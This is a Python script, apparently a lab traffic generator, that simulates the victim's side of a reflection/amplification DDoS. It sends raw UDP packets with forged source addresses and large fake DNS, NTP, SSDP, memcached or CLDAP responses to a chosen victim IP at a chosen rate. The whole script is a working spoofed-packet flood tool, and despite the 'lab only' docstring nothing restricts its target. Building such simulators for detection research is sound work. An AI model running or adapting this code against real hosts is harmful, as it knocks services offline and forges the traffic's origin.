"""What the victim of a reflection sees: big answers that it never asked for, from many servers. Sends only inside the lab.

Usage: reflect.py dns|ntp|ssdp|memcached|cldap VICTIM SECONDS PACKETS_PER_SECOND     (run in an outer host's namespace)
"""

import os
import random
import socket
import struct
import sys
import time

shape, victim, seconds, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
draw = random.Random(4)
PORT = {'dns': 53, 'ntp': 123, 'ssdp': 1900, 'memcached': 11211, 'cldap': 389}[shape]
SERVERS = [
    f'{draw.choice((31, 46, 62, 77, 89, 95, 178, 188, 190, 201))}.{draw.randrange(256)}.{draw.randrange(256)}.{draw.randrange(1, 255)}'
    for _ in range(60)
]


def answer() -> bytes:
    if shape == 'dns':
        question = b'\x05isc-x\x03org\0\0\xff\0\1'
        return (
            struct.pack('>6H', draw.getrandbits(16), 0x8180, 1, 20, 0, 0)
            + question
            + b''.join(b'\xc0\x0c\0\x10\0\1\0\0\x0e\x10\0\x33\x32' + os.urandom(25).hex().encode() for _ in range(20))
        )
    if shape == 'ntp':
        return b'\xd7\0\x03\x2a\0\6\0\x48' + os.urandom(432)
    if shape == 'ssdp':
        return (
            b'HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nUSN: uuid:'
            + os.urandom(16).hex().encode()
            + b'::upnp:rootdevice\r\nEXT:\r\nSERVER: Net-OS 5.xx UPnP/1.0\r\nLOCATION: http://10.0.0.1:2048/etc/linuxigd/gatedesc.xml\r\n\r\n'
        )
    if shape == 'memcached':
        return b'\0\0\0\0\0\1\0\0VALUE a 0 1300\r\n' + os.urandom(1300)
    return b'\x30\x84\0\0\x0b\x00\x02\x01\x01\x64\x84\0\0\x0a\xf0' + os.urandom(1380)


def datagram(source: str, body: bytes) -> bytes:
    inner = struct.pack('>4H', PORT, port, 8 + len(body), 0) + body
    head = struct.pack(
        '>BBHHHBBH4s4s', 0x45, 0, 20 + len(inner), draw.getrandbits(16), 0, 60, 17, 0, socket.inet_aton(source), socket.inet_aton(victim)
    )
    return head + inner


out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
port, end = draw.choice((80, 443, draw.randint(2000, 60000))), time.time() + seconds
while time.time() < end:
    for _ in range(max(1, int(rate / 50))):
        out.sendto(datagram(draw.choice(SERVERS), answer()), (victim, 0))
    time.sleep(0.02)
